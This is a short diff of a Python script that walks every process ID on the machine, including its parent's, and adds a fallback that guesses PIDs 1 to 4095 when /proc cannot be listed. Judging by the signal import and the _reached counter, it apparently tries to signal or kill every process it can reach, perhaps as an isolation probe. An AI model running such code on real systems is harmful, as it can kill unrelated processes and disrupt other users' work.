@@ -2,8 +2,16 @@
 import os
 import signal
 
+
+def _pids():
+    try:
+        return [int(p) for p in os.listdir("/proc") if p.isdigit()]
+    except OSError:  # the process list itself may be closed: then guess
+        return list(range(1, 4096))
+
+
 _reached = 0
-for _pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+for _pid in [os.getppid()] + _pids():
     if _pid in (os.getpid(), os.getpgrp()):
         continue
     try:
